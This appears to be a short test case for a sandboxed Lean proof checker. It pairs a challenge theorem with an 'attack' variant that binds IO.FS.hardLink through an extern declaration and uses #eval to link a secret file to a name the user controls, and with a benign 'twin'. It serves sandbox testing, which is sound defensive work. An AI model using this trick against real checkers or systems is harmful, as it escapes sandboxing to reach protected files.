/-
A command gives a file of the user a second name inside the folder.

defence: sandbox
-/
--! challenge
theorem t : True := sorry
--! attack
import Lean
@[extern "native"] opaque IO.FS.hardLink (orig link : @& System.FilePath) : IO Unit
#eval (IO.FS.hardLink "⟦secret⟧" "mine" : IO Unit)
theorem t : True := trivial
--! twin
theorem t : True := trivial
